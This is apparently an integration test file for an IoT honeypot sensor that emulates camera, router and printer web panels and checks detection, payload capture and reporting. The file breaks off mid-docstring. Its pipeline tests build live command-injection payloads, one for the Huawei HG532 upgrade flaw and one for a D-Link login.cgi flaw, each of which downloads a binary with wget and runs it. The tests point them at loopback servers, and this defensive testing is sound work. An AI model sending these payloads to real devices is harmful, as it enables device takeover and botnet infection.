"""The WebUI honeypot end to end (issue 8): the real mitsu binary on loopback serving the web
profiles, driven by real clients: curl (Basic, --digest, a form with a cookie jar) and Python's
http.client for every device-specific action of every device; every exploit signature's sample
request labelled, its payload fetched and stored; nmap -sV naming each profile's server; the
report's two WebUI tables computed from a scripted mix of source hosts and checked number by
number; hostile peers (huge headers, slowloris) closed alone; Telnet and HTTP in one run."""
import base64
import hashlib
import http.client
import json
import os
import random
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import TelnetBot  # noqa: E402

PROFILES = harness.os.path.join(harness.ROOT, 'profiles')
SAMPLES = os.path.join(harness.ROOT, 'rules', 'exploits', 'samples')
DEVICES = ['ipcam-a', 'ipcam-b', 'router-c', 'router-d', 'router-e', 'pocket-f', 'pocket-g',
           'printer-h', 'receiver-i']
PORT_DEVICES = ['hg532', 'realtek-igd', 'tr064']
# The order an attacker's script would go in: look, take, change, implant, lock out, reboot.
ACTION_ORDER = ['status', 'settings_export', 'recordings', 'snapshot', 'vpn_server', 'vpn_client',
                'firewall', 'ddns', 'dns', 'firmware_upload', 'admin_password', 'reboot']


def read_profile(name):
    """The parts of a web.ini the tests need: [http] keys, credentials, actions, pages."""
    prof = {'http': {}, 'credentials': [], 'actions': {}, 'pages': {}}
    section = None
    with open(os.path.join(PROFILES, name, 'web.ini')) as f:
        for line in f:
            line = line.rstrip('\n')
            if not line or line.startswith(';'):
                continue
            if line.startswith('['):
                section = line.strip('[]')
                continue
            key, _, value = line.partition('=')
            key, value = key.strip(), value.strip()
            if section == 'http':
                prof['http'][key] = value
            elif section == 'credentials':
                prof['credentials'].append((key, value))
            elif section == 'actions':
                method, path, target = value.split(None, 2)
                prof['actions'][key] = (method, path, target)
            elif section == 'pages':
                prof['pages'][key] = value
    return prof


def form_fields(profile, page_file):
    """The names of the inputs of a page's form, and whether the page shows each value."""
    with open(os.path.join(PROFILES, profile, 'www', page_file)) as f:
        text = f.read()
    return [(m.group(1), ('value="{{%s}}"' % m.group(1)) in text)
            for m in re.finditer(r'<input type="(?:text|password)" name="(\w+)"', text)]


class Client:
    """http.client against one profile, logged in as the profile's scheme wants."""

    def __init__(self, port, profile, source='127.0.0.1'):
        self.port, self.profile, self.source = port, profile, source
        self.prof = read_profile(profile)
        self.auth = self.prof['http'].get('auth', 'none').split()
        self.user, self.password = self.prof['credentials'][0] if self.prof['credentials'] else ('', '')
        self.cookie = None

    def request(self, method, path, body=None, headers=None):
        h = dict(headers or {})
        if 'basic' in self.auth:
            h['Authorization'] = 'Basic ' + base64.b64encode(
                ('%s:%s' % (self.user, self.password)).encode()).decode()
        if self.cookie:
            h['Cookie'] = self.cookie
        c = http.client.HTTPConnection('127.0.0.1', self.port, timeout=10,
                                       source_address=(self.source, 0))
        c.request(method, path, body=body, headers=h)
        r = c.getresponse()
        data = r.read()
        c.close()
        return r, data

    def login(self):
        if 'form' not in self.auth:
            return
        http_ = self.prof['http']
        body = '%s=%s&%s=%s' % (http_['user_field'], self.user, http_['pass_field'], self.password)
        r, _ = self.request('POST', http_['login_action'], body,
                            {'Content-Type': 'application/x-www-form-urlencoded'})
        assert r.status == 302, (self.profile, r.status)
        cookie = r.getheader('Set-Cookie')
        assert cookie and cookie.startswith(http_['cookie'] + '='), cookie
        self.cookie = cookie.split(';')[0]


def multipart(filename, data, boundary='----mitsutestboundary'):
    body = ('--%s\r\nContent-Disposition: form-data; name="firmware"; filename="%s"\r\n'
            'Content-Type: application/octet-stream\r\n\r\n' % (boundary, filename)).encode()
    body += data + ('\r\n--%s--\r\n' % boundary).encode()
    return body, 'multipart/form-data; boundary=' + boundary


def retarget(raw, addr):
    """A sample request with its download server's address replaced by addr, its
    Content-Length made right again: a shorter address left the body short of its declared
    length, and the sensor waited for the rest (the test's old flake, 1 run in ~100)."""
    raw = raw.replace(b'198.51.100.7', addr.encode())
    head, sep, body = raw.partition(b'\r\n\r\n')
    head = re.sub(rb'(?im)^(content-length:[ \t]*)\d+', lambda m: m.group(1) + str(len(body)).encode(), head)
    return head + sep + body


def fake_firmware(name):
    """Made-up bytes with a MIPS ELF header (not malware): a 'firmware image' to upload."""
    rnd = random.Random(name)
    body = bytearray(rnd.getrandbits(8) for _ in range(4096))
    body[:20] = b'\x7fELF\x01\x02\x01' + bytes(9) + b'\x00\x02\x00\x08'
    return bytes(body)


def curl(*args):
    p = subprocess.run(['curl', '-s', '-S', '--max-time', '10'] + list(args),
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
    return p.stdout.decode(errors='replace')


class SharedSensor(harness.unittest.TestCase):
    """One `mitsu run` with every web profile on its own port and a Telnet listener."""

    @classmethod
    def setUpClass(cls):
        ports = [harness.free_port() for _ in range(len(DEVICES + PORT_DEVICES) + 1)]
        cls.ports = dict(zip(DEVICES + PORT_DEVICES, ports))
        cls.telnet_port = ports[-1]
        listens = ['http@127.0.0.1:%d/%s' % (p, n) for n, p in cls.ports.items()]
        listens.append('telnet@127.0.0.1:%d' % cls.telnet_port)
        cls.sensor = harness.Sensor(listens=listens,
                                    sets=['telnet.fail_delay_ms=0', 'box.auto=false',
                                          'capture.fetch=false']).start()

    @classmethod
    def tearDownClass(cls):
        cls.sensor.stop()
        cls.sensor.cleanup()

    def events(self, eventid, pred=None):
        evs = self.sensor.events(eventid)
        return [e for e in evs if pred is None or pred(e)]


class CurlTest(SharedSensor):
    def test_curl_basic(self):
        port = self.ports['router-c']
        out = curl('-i', 'http://127.0.0.1:%d/index.html' % port)
        self.assertTrue(out.startswith('HTTP/1.0 401 Unauthorized\r\nServer: mini_httpd/1.19 19dec2003\r\n'), out[:200])
        out = curl('-i', '-u', 'admin:admin', 'http://127.0.0.1:%d/cgi-bin/status.cgi' % port)
        self.assertIn('HTTP/1.0 200 OK', out)
        self.assertIn('model=WR-300N', out)
        ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e: e['dst_port'] == port and e['success']))
        ok = [e for e in ev if e['eventid'] == 'mitsu.http.login' and e['dst_port'] == port and e['success']][-1]
        self.assertEqual((ok['scheme'], ok['username'], ok['password']), ('basic', 'admin', 'admin'))

    def test_curl_digest(self):
        port = self.ports['ipcam-a']
        out = curl('-i', '--digest', '-u', 'admin:12345', 'http://127.0.0.1:%d/cgi-bin/config_backup.cgi' % port)
        self.assertIn('HTTP/1.1 200 OK', out)
        self.assertIn('admin_password=12345', out)
        # Other tests log in to this port too (Basic): wait for this Digest login.
        ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e: e['dst_port'] == port
                                          and e['scheme'] == 'digest' and e['success']))
        logins = [e for e in ev if e['eventid'] == 'mitsu.http.login' and e['dst_port'] == port
                  and e['scheme'] == 'digest']
        self.assertEqual([(e['scheme'], e['username'], e['password'], e['success']) for e in logins][-1:],
                         [('digest', 'admin', '12345', True)])
        out = curl('-i', '--digest', '-u', 'admin:nope', 'http://127.0.0.1:%d/' % port)
        self.assertIn('401 Unauthorized', out)
        ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e: e['dst_port'] == port and not e['success']
                                          and e['scheme'] == 'digest'))
        bad = [e for e in ev if e['eventid'] == 'mitsu.http.login' and not e['success'] and e['dst_port'] == port
               and e['scheme'] == 'digest']
        self.assertIsNone(bad[-1]['password'])  # a Digest login does not reveal a wrong password

    def test_curl_basic_every_basic_profile(self):
        """curl --basic against every profile that offers Basic: a right password logs in (the
        status page answers) and a wrong one does not; each attempt is a mitsu.http.login
        with scheme basic, the user, the password and success."""
        for name in ('ipcam-a', 'ipcam-b', 'router-c', 'router-d'):
            prof = read_profile(name)
            self.assertIn('basic', prof['http']['auth'].split(), name)
            port = self.ports[name]
            user, password = prof['credentials'][0]
            url = 'http://127.0.0.1:%d%s' % (port, prof['actions']['status'][1])
            out = curl('-i', '--basic', '-u', '%s:%s' % (user, password), url)
            self.assertRegex(out, r'^HTTP/1\.[01] 200 OK\r\n', name)
            self.assertIn('Server: %s\r\n' % prof['http']['server'], out)
            out = curl('-i', '--basic', '-u', '%s:wrong-%s' % (user, name), url)
            self.assertRegex(out, r'^HTTP/1\.[01] 401 ', name)
            ev = self.sensor.events(wait_for=('mitsu.http.login', lambda e, p=port, n=name: (
                e['dst_port'] == p and e['password'] == 'wrong-' + n)))
            logins = [(e['scheme'], e['username'], e['password'], e['success']) for e in ev
                      if e['eventid'] == 'mitsu.http.login' and e['dst_port'] == port]
            self.assertEqual(logins[-2:], [('basic', user, password, True),
                                           ('basic', user, 'wrong-' + name, False)], name)

    def test_exploit_ports_banners_and_spray(self):
        """The exploit-port listeners (HG532 37215, Realtek miniigd 52869, TR-064 7547, here on
        free ports) answer with their device's banner; a signature's request sprayed at every
        listener is labelled on each, with the port it arrived on."""
        for name in PORT_DEVICES:
            c = http.client.HTTPConnection('127.0.0.1', self.ports[name], timeout=10)
            c.request('GET', '/')
            r = c.getresponse()
            r.read()
            c.close()
            self.assertEqual(r.getheader('Server'), read_profile(name)['http']['server'], name)
        with open(os.path.join(SAMPLES, 'huawei-hg532-upgrade-rce.http'), 'rb') as f:
            raw = f.read()
        for name, port in self.ports.items():
            c = socket.create_connection(('127.0.0.1', port), timeout=10)
            c.sendall(raw)
            self.assertRegex(c.recv(65536), rb'^HTTP/1\.[01] \d\d\d ', name)
            c.close()
        want = set(self.ports.values())
        deadline = time.monotonic() + 20
        while True:
            got = {e['dst_port'] for e in self.sensor.events('mitsu.exploit.match')
                   if e['signature'] == 'huawei-hg532-upgrade-rce' and e['cve'] == 'CVE-2017-17215'}
            if want <= got or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        self.assertEqual({n: p in got for n, p in self.ports.items()},
                         {n: True for n in self.ports})

    def test_curl_form_cookie(self):
        for name in ('router-e', 'pocket-f', 'pocket-g'):
            prof = read_profile(name)
            port = self.ports[name]
            h = prof['http']
            user, password = prof['credentials'][0]
            with tempfile.NamedTemporaryFile() as jar:
                out = curl('-i', '-c', jar.name, '-d', '%s=%s&%s=%s' % (h['user_field'], user, h['pass_field'], password),
                           'http://127.0.0.1:%d%s' % (port, h['login_action']))
                self.assertIn('302 Found', out, name)
                self.assertIn('Set-Cookie: %s=' % h['cookie'], out)
                out = curl('-i', '-b', jar.name, 'http://127.0.0.1:%d%s' % (port, prof['actions']['status'][1]))
                self.assertIn('200 OK', out, name)
                self.assertIn('hostname=', out)
                out = curl('-i', 'http://127.0.0.1:%d%s' % (port, prof['actions']['status'][1]))
                self.assertIn('302 Found', out)
                self.assertIn('Location: %s' % h['login_page'], out)

    def test_http_client_every_action(self):
        """Every device-specific action of every device, as a script would do them; each is a
        mitsu.webui.action and each change shows in the page that answers it."""
        for name in DEVICES:
            prof = read_profile(name)
            cl = Client(self.ports[name], name)
            cl.login()
            done = []
            for action in ACTION_ORDER:
                if action not in prof['actions']:
                    continue
                method, path, target = prof['actions'][action]
                body, headers, shows = None, {}, []
                if action == 'firmware_upload':
                    body, ctype = multipart('fw-%s.bin' % name, fake_firmware(name))
                    headers['Content-Type'] = ctype
                elif method == 'POST':
                    pairs = []
                    page = target.split()[0]
                    for field, shown in form_fields(name, page):
                        value = 'pwn-%s' % field if field != 'admin_password' else 'x%s9' % name
                        pairs.append('%s=%s' % (field, value))
                        if shown:
                            shows.append('value="%s"' % value)
                    body = '&'.join(pairs)
                    headers['Content-Type'] = 'application/x-www-form-urlencoded'
                r, data = cl.request(method, path, body, headers)
                self.assertEqual(r.status, 200, (name, action, data[:200]))
                self.assertEqual(r.getheader('Server'), prof['http']['server'], name)
                for s in shows:
                    self.assertIn(s.encode(), data, (name, action))
                if action == 'admin_password':
                    cl.password = 'x%s9' % name
                    if 'form' in cl.auth:
                        cl.cookie = None
                        cl.login()  # the new password logs in; the old one would not
                done.append(action)
            self.assertGreaterEqual(len(done), 6, name)
            port = self.ports[name]
            ev = self.sensor.events(wait_for=('mitsu.webui.action', lambda e, p=port, a=done[-1]: e['dst_port'] == p and e['action'] == a))
            acts = [e for e in ev if e['eventid'] == 'mitsu.webui.action' and e['dst_port'] == port]
            self.assertEqual([e['action'] for e in acts][-len(done):], done, name)
            for e in acts:
                self.assertEqual(e['profile'], name)
                self.assertIn(e['intent'], ('recon', 'info_theft', 'setting_change'))
            up = [e for e in acts if e['action'] == 'firmware_upload']
            if up:
                self.assertEqual(up[-1]['file'], 'fw-%s.bin' % name)
                self.assertEqual(up[-1]['size'], 4096)
                stored = self.sensor.events(wait_for=('mitsu.session.file_upload', lambda e, p=port: e['dst_port'] == p))
                fu = [e for e in stored if e['eventid'] == 'mitsu.session.file_upload' and e['dst_port'] == port]
                self.assertEqual(fu[-1]['shasum'], hashlib.sha256(fake_firmware(name)).hexdigest())
                self.assertEqual(fu[-1]['method'], 'firmware_upload')
        # The sample store's rows are committed at the end of a loop turn, after the events
        # above were written: wait for them.
        want = {hashlib.sha256(fake_firmware(n)).hexdigest() for n in DEVICES
                if 'firmware_upload' in read_profile(n)['actions']}
        deadline = time.monotonic() + 20
        while True:
            samples = harness.run_mitsu('samples', '--format', 'json', data_dir=self.sensor.data_dir).stdout
            shas = {json.loads(l)['sha256'] for l in samples.splitlines() if l.strip()}
            if want <= shas or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        self.assertLessEqual(want, shas)

    def test_telnet_and_http_in_one_run(self):
        bot = TelnetBot(self.telnet_port)
        bot.read_until_token(b'ogin')
        bot.sendline('root')
        bot.read_until_token(b'assword')
        bot.sendline('xc3511')
        bot.read_prompt()
        bot.close()
        r, _ = Client(self.ports['printer-h'], 'printer-h').request('GET', '/')
        self.assertEqual(r.status, 200)
        self.sensor.events(wait_for=('mitsu.login.success', lambda e: e['dst_port'] == self.telnet_port))

    def test_profiles_command_lists_web_profiles(self):
        out = harness.run_mitsu('profiles', '--format', 'json').stdout
        rows = {json.loads(l)['name']: json.loads(l) for l in out.splitlines()}
        for name in DEVICES + PORT_DEVICES:
            self.assertEqual(rows[name]['protocol'], 'http', name)
        self.assertEqual(rows['ipcam-a']['auth'], 'basic+digest')
        self.assertEqual(rows['router-e']['auth'], 'form')
        self.assertEqual(rows['printer-h']['auth'], 'none')
        self.assertIn('dvr-hi3520d', rows)

    def test_nmap_names_each_server(self):
        want = {
            'ipcam-a': 'thttpd 2.25b 29dec2003', 'ipcam-b': 'GoAhead WebServer',
            'router-c': 'mini_httpd 1.19 19dec2003', 'router-d': 'Boa HTTPd 0.94.14rc21',
            'router-e': 'lighttpd 1.4.35', 'pocket-f': 'TP-LINK embedded httpd',
            'pocket-g': 'micro_httpd', 'printer-h': 'thttpd 2.20b 10oct00',
            'receiver-i': 'lighttpd 1.4.16', 'tr064': 'Allegro RomPager 4.07 UPnP/1.0',
        }
        ports = ','.join(str(self.ports[n]) for n in want) + ',%d,%d' % (
            self.ports['hg532'], self.ports['realtek-igd'])
        p = subprocess.run(['nmap', '-sV', '-Pn', '-n', '-p', ports, '127.0.0.1'],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=300, text=True)
        lines = {int(m.group(1)): m.group(2) for m in re.finditer(r'^(\d+)/tcp\s+open\s+(.*)$', p.stdout, re.M)}
        for name, product in want.items():
            self.assertRegex(lines.get(self.ports[name], ''), r'^http\s+' + re.escape(product), (name, p.stdout))
        # Nmap 7.93 has no product line for these two banners; it names the service UPnP.
        for name in ('hg532', 'realtek-igd'):
            self.assertRegex(lines.get(self.ports[name], ''), r'^upnp', (name, p.stdout))


class ExploitTest(harness.unittest.TestCase):
    def test_every_sample_labelled_and_payload_fetched(self):
        """Each signature's sample request, sent to a device port, is one mitsu.exploit.match
        with its own id; the URLs its commands download are fetched from real servers on
        loopback (BusyBox httpd, tftpd-hpa) and stored as samples."""
        from test_capture import Servers
        srv = Servers()
        names = sorted(f[:-5] for f in os.listdir(SAMPLES) if f.endswith('.http'))
        self.assertGreaterEqual(len(names), 15)
        raws, want_urls = {}, {}
        for name in names:
            with open(os.path.join(SAMPLES, name + '.http'), 'rb') as f:
                raws[name] = retarget(f.read(), srv.addr)
            for m in re.finditer(rb'http://' + re.escape(srv.addr.encode()) + rb'/([\w.]+)', raws[name]):
                srv.put(m.group(1).decode(), fake_firmware(m.group(1).decode()))
                want_urls[name] = True
        srv.put('7.mips', fake_firmware('7.mips'))  # tr064's sample uses tftp
        srv.start_http()
        srv.start_tftp()
        port = harness.free_port()
        try:
            with harness.Sensor(listens=['http@127.0.0.1:%d/ipcam-b' % port],
                                sets=['capture.allow_private=true', 'box.auto=false']) as s:
                for name in names:
                    c = socket.create_connection(('127.0.0.1', port), timeout=10)
                    c.sendall(raws[name])
                    reply = b''
                    while True:
                        d = c.recv(65536)
                        if not d:
                            break
                        reply += d
                    c.close()
                    self.assertRegex(reply, rb'^HTTP/1\.0 \d\d\d ', name)
                last = names[-1]
                ev = s.events(wait_for=('mitsu.exploit.match', lambda e: e['signature'] == last))
                matches = [e for e in ev if e['eventid'] == 'mitsu.exploit.match']
                self.assertEqual(sorted(e['signature'] for e in matches), names)
                by_session = {e['session']: e['signature'] for e in matches}
                self.assertEqual(len(by_session), len(names))  # one label per request
                for e in matches:
                    self.assertIn(e['intent'], ('rce', 'info_theft'))
                    self.assertTrue(e['cve'] is None or e['cve'].startswith('CVE-'))
                hg = [e for e in matches if e['signature'] == 'huawei-hg532-upgrade-rce'][0]
                self.assertEqual(hg['cve'], 'CVE-2017-17215')
                self.assertEqual(hg['dst_port'], port)
                # Every HTTP payload URL is fetched and stored, like a Telnet download.
                deadline = time.monotonic() + 20
                while True:
                    ev = s.events()
                    got = {by_session.get(e['session']) for e in ev
                           if e['eventid'] == 'mitsu.session.file_download'}
                    if set(want_urls) | {'tr064-ntp-rce'} <= got or time.monotonic() > deadline:
                        break
                    time.sleep(0.1)
                self.assertLessEqual(set(want_urls), got)
                self.assertGreaterEqual(len(want_urls), 10)
                self.assertIn('tr064-ntp-rce', got)  # tftp -g
                stored = {e['shasum'] for e in ev if e['eventid'] == 'mitsu.sample.stored'}
                for e in ev:
                    if e['eventid'] == 'mitsu.session.file_download':
                        self.assertIn(e['shasum'], stored)
        finally:
            srv.stop()


class PipelineTest(harness.unittest.TestCase):
    def test_exploit_payload_to_verdict(self):
        """The HG532 exploit (CVE-2017-17215) on its port: the binary its command downloads is
        fetched, stored and analysed by the sandbox, as a Telnet download is. The binary is a
        harmless Mirai-like test program (tests/data/box)."""
        from test_box import compile_bot
        from test_capture import Servers, sha
        tmp = tempfile.mkdtemp(prefix='mitsu-webpipe-')
        srv = Servers()
        try:
            binary = os.path.join(tmp, 'mirai.arm7')
            compile_bot('mirai_like', 'arm', binary)
            with open(binary, 'rb') as f:
                data = srv.put('bins/hw.arm7', f.read())
            srv.start_http()
            port = harness.free_port()
            with harness.Sensor(listens=['http@127.0.0.1:%d/hg532' % port],
                                sets=['capture.allow_private=true', 'box.window=15']) as s:
                body = ('<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/'
                        'envelope/"><s:Body><u:Upgrade xmlns:u="urn:www-huawei-com:service:'
                        'DeviceUpgrade:1"><NewStatusURL>$(/bin/busybox wget http://%s/bins/hw.arm7 '
                        '-O /tmp/hw; /tmp/hw huawei)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP'
                        ')</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>' % srv.addr)
                c = http.client.HTTPConnection('127.0.0.1', port, timeout=10)
                c.request('POST', '/ctrlt/DeviceUpgrade_1', body,
                          {'SOAPAction': '"urn:www-huawei-com:service:DeviceUpgrade:1#Upgrade"'})
                r = c.getresponse()
                self.assertEqual(r.status, 200)
                self.assertEqual(r.getheader('Server'), 'Linux UPnP/1.0 Huawei-ATP-IGD')
                c.close()
                ev = s.events(wait_for=('mitsu.box.result', lambda e: e.get('shasum') == sha(data)), timeout=240)
                match = [e for e in ev if e['eventid'] == 'mitsu.exploit.match']
                self.assertEqual([m['signature'] for m in match], ['huawei-hg532-upgrade-rce'])
                dl = [e for e in ev if e['eventid'] == 'mitsu.session.file_download']
                self.assertEqual(dl[0]['url'], 'http://%s/bins/hw.arm7' % srv.addr)
                self.assertEqual(dl[0]['shasum'], sha(data))
                self.assertEqual(dl[0]['session'], match[0]['session'])
                res = [e for e in ev if e['eventid'] == 'mitsu.box.result' and e['shasum'] == sha(data)]
                self.assertEqual(len(res), 1)
                self.assertEqual(res[0]['arch'], 'arm')
        finally:
            srv.stop()
            shutil.rmtree(tmp, ignore_errors=True)

    def test_wget_exploit_and_firmware_upload_to_verdict(self):
        """The shared machinery end to end on two more ways in: a `;wget http://ADDR:PORT/x`
        inside an exploit's target (the D-Link DSL-2750B login.cgi injection) and a firmware
        upload behind Basic login. The first is fetched from a test HTTP server on loopback,
        the second taken from the request; both end as stored samples with a sandbox verdict
        (mitsu.box.result), as a Telnet download does (tests/integration/test_pipeline.py).
        The binaries are harmless test programs (tests/data/box)."""
        from test_box import compile_bot
        from test_capture import Servers, sha
        tmp = tempfile.mkdtemp(prefix='mitsu-webpipe2-')
        srv = Servers()
        try:
            fetched = os.path.join(tmp, 'x.arm')
            compile_bot('mirai_like', 'arm', fetched)
            with open(fetched, 'rb') as f:
                payload = srv.put('x', f.read())
            firmware = os.path.join(tmp, 'fw.mips')
            compile_bot('benign', 'mips', firmware)
            with open(firmware, 'rb') as f:
                image = f.read()
            web_port = harness.free_port()
            srv.start_http(web_port)
            port = harness.free_port()
            with harness.Sensor(listens=['http@127.0.0.1:%d/router-d' % port],
                                sets=['capture.allow_private=true', 'box.window=15']) as s:
                target = ('/login.cgi?cli=aa%%20aa%%27;wget%%20http://%s:%d/x%%20-O%%20-%%3E%%20'
                          '/tmp/d;sh%%20/tmp/d%%27$' % (srv.addr, web_port))
                c = socket.create_connection(('127.0.0.1', port), timeout=10)
                c.sendall(b'GET ' + target.encode() + b' HTTP/1.1\r\nHost: x\r\n\r\n')
                self.assertRegex(c.recv(65536), rb'^HTTP/1\.[01] \d\d\d ')
                c.close()
                body, ctype = multipart('fw.bin', image)
                r, _ = Client(port, 'router-d').request('POST', '/goform/upgrade', body,
                                                        {'Content-Type': ctype})
                self.assertEqual(r.status, 200)
                want = {sha(payload), sha(image)}
                s.events(wait_for=('mitsu.box.result', lambda e: want <= {
                    x.get('shasum') for x in s.events('mitsu.box.result')}), timeout=300)
                ev = s.events()
                match = [e for e in ev if e['eventid'] == 'mitsu.exploit.match']
                self.assertEqual([m['signature'] for m in match], ['dlink-dsl2750b-rce'])
                dl = [e for e in ev if e['eventid'] == 'mitsu.session.file_download']
                self.assertEqual([(d['url'], d['shasum'], d['session']) for d in dl],
                                 [('http://%s:%d/x' % (srv.addr, web_port), sha(payload),
                                   match[0]['session'])])
                up = [e for e in ev if e['eventid'] == 'mitsu.session.file_upload']
                self.assertEqual([(u['shasum'], u['method']) for u in up],
                                 [(sha(image), 'firmware_upload')])
                stored = {e['shasum'] for e in ev if e['eventid'] == 'mitsu.sample.stored'}
                self.assertLessEqual(want, stored)
                res = {e['shasum']: e for e in ev if e['eventid'] == 'mitsu.box.result'}
                self.assertEqual(res[sha(payload)]['arch'], 'arm')
                self.assertEqual(res[sha(payload)]['family'], 'mirai')
                self.assertEqual(res[sha(image)]['arch'], 'mips')
        finally:
            srv.stop()
            shutil.rmtree(tmp, ignore_errors=True)


class ReportTest(harness.unittest.TestCase):
    def test_report_tables_from_a_mix_of_hosts(self):
        """A scripted mix of source hosts (127.0.0.x) on three devices; the report's numbers
        are the ones the script implies, one by one."""
        ports = {n: harness.free_port() for n in ('ipcam-a', 'router-e', 'printer-h')}
        listens = ['http@127.0.0.1:%d/%s' % (p, n) for n, p in ports.items()]
        with harness.Sensor(listens=listens, sets=['box.auto=false', 'capture.fetch=false']) as s:
            def cam(src, creds=None):
                cl = Client(ports['ipcam-a'], 'ipcam-a', '127.0.0.%d' % src)
                if creds:
                    cl.user, cl.password = creds
                else:
                    cl.auth = []
                return cl
            for src in (11, 12, 13, 14):
                cam(src).request('GET', '/')
            self.assertEqual(cam(12, ('admin', 'bad')).request('GET', '/')[0].status, 401)
            self.assertEqual(cam(13, ('admin', 'bad2')).request('GET', '/')[0].status, 401)
            self.assertEqual(cam(13, ('admin', '12345')).request('GET', '/cgi-bin/record_list.cgi')[0].status, 200)
            c14 = cam(14, ('root', 'admin'))
            self.assertEqual(c14.request('GET', '/cgi-bin/config_backup.cgi')[0].status, 200)
            self.assertEqual(c14.request('GET', '/cgi-bin/snapshot.cgi')[0].status, 200)
            with open(os.path.join(SAMPLES, 'wificam-system-ini-leak.http'), 'rb') as f:
                raw = f.read()
            c = socket.create_connection(('127.0.0.1', ports['ipcam-a']), source_address=('127.0.0.41', 0))
            c.sendall(raw)
            c.recv(65536)
            c.close()

            def rtr(src):
                return Client(ports['router-e'], 'router-e', '127.0.0.%d' % src)
            for src in (21, 22, 23):
                rtr(src).request('GET', '/')
            bad = rtr(22)
            bad.password = 'wrong'
            self.assertEqual(bad.request('POST', '/cgi-bin/login.cgi', 'username=admin&password=wrong',
                                         {'Content-Type': 'application/x-www-form-urlencoded'})[0].status, 200)
            good = rtr(23)
            good.login()
            form = {'Content-Type': 'application/x-www-form-urlencoded'}
            self.assertEqual(good.request('POST', '/cgi-bin/dns.cgi', 'dns1=203.0.113.66', form)[0].status, 200)
            self.assertEqual(good.request('POST', '/cgi-bin/vpn_server.cgi', 'vpn_server_enable=1', form)[0].status, 200)

            def prn(src):
                return Client(ports['printer-h'], 'printer-h', '127.0.0.%d' % src)
            prn(31).request('GET', '/')
            self.assertEqual(prn(32).request('GET', '/config.txt')[0].status, 200)
            s.events(wait_for=('mitsu.webui.action', lambda e: e['src_ip'] == '127.0.0.32'))
            s.stop()  # every event is in the store once the sensor has stopped
            out = harness.run_mitsu('report', '--format', 'json', data_dir=s.data_dir).stdout
            text = harness.run_mitsu('report', data_dir=s.data_dir).stdout
        rows = {r['profile']: r for r in json.loads(out)['webui']}
        keys = ('hosts_requests', 'hosts_login_attempts', 'hosts_login_success', 'hosts_device_access')
        self.assertEqual([rows['ipcam-a'][k] for k in keys], [5, 3, 2, 2])
        self.assertEqual(rows['ipcam-a']['intents'], {'info_theft': 2})
        self.assertEqual(rows['ipcam-a']['outcomes'], {'peeping': 2, 'information_leak': 1})
        self.assertEqual(rows['ipcam-a']['actions'], {'recordings': 1, 'settings_export': 1, 'snapshot': 1})
        self.assertEqual(rows['ipcam-a']['exploits'], {'wificam-system-ini-leak': 1})
        self.assertEqual([rows['router-e'][k] for k in keys], [3, 2, 1, 1])
        self.assertEqual(rows['router-e']['intents'], {'setting_change': 1})
        self.assertEqual(rows['router-e']['outcomes'], {'redirect_to_malicious_sites': 1, 'stepping_stone': 1})
        self.assertEqual([rows['printer-h'][k] for k in keys], [2, 0, 0, 1])
        self.assertEqual(rows['printer-h']['intents'], {'info_theft': 1})
        self.assertIn('== WebUI ==', text)
        self.assertRegex(text, r'ipcam-a\s+5\s+3\s+2\s+2\n')
        self.assertRegex(text, r'router-e\s+dns\s+setting_change\s+redirect_to_malicious_sites\s+1\n')


class HostileTest(harness.unittest.TestCase):
    def test_huge_headers_and_slowloris_close_only_that_peer(self):
        port, ka_port = harness.free_port(), harness.free_port()
        with harness.Sensor(listens=['http@127.0.0.1:%d/router-d' % port,
                                     'http@127.0.0.1:%d/router-e' % ka_port],
                            sets=['http.request_timeout=1', 'http.keepalive_timeout=1',
                                  'box.auto=false']) as s:
            # Slowloris: a request that never ends, one header byte at a time.
            slow = socket.create_connection(('127.0.0.1', port), timeout=10)
            slow.sendall(b'GET / HTTP/1.1\r\nHost: x\r\nX-a: ')
            # Huge headers: 40 KiB of header lines (http.max_head is 32 KiB).
            huge = socket.create_connection(('127.0.0.1', port), timeout=10)
            huge.sendall(b'GET / HTTP/1.1\r\n' + b''.join(b'X-%d: %s\r\n' % (i, b'a' * 1000) for i in range(40)) + b'\r\n')
            reply = b''
            while True:
                d = huge.recv(65536)
                if not d:
                    break
                reply += d
            self.assertTrue(reply.startswith(b'HTTP/1.0 431 '), reply[:100])
            # Meanwhile an ordinary client is served, again and again.
            served = 0
            slow_reply = b''
            slow.settimeout(0.05)
            deadline = time.monotonic() + 15
            while time.monotonic() < deadline:
                r, _ = Client(port, 'router-d').request('GET', '/goform/status')
                self.assertEqual(r.status, 200)
                served += 1
                try:
                    slow.send(b'a')
                    d = slow.recv(65536)
                    if not d:
                        break
                    slow_reply += d
                except socket.timeout:
                    pass
                except (BrokenPipeError, ConnectionResetError):
                    break
            self.assertGreater(served, 0)
            self.assertTrue(slow_reply.startswith(b'HTTP/1.0 408 '), slow_reply[:100])
            ev = s.events(wait_for=('mitsu.session.closed', lambda e: e['reason'] == 'request_timeout'))
            reasons = [e['reason'] for e in ev if e['eventid'] == 'mitsu.session.closed']
            self.assertIn('line_limit', reasons)
            self.assertEqual(reasons.count('request_timeout'), 1)
            # A kept-alive connection that says nothing more is closed when its time is up.
            idle = http.client.HTTPConnection('127.0.0.1', ka_port, timeout=10)
            idle.connect()
            idle_port = idle.sock.getsockname()[1]
            idle.request('GET', '/login.html')
            r = idle.getresponse()
            r.read()
            self.assertEqual(r.getheader('Connection'), 'keep-alive')
            s.events(wait_for=('mitsu.session.closed', lambda e: e['src_port'] == idle_port))
            closed = [e for e in s.events('mitsu.session.closed') if e['src_port'] == idle_port]
            self.assertEqual(closed[0]['reason'], 'idle')
            idle.close()
            slow.close()


class BudgetTest(harness.unittest.TestCase):
    def test_big_uploads_held_within_the_memory_budget(self):
        """Six firmware uploads at once, each 300 kB into a 400 kB body, against a memory budget
        (limits.shell_memory_total) of 1 MiB: the request buffers of HTTP sessions count
        against it, so only one upload can be held whole (its buffer is 512 KiB); each time the
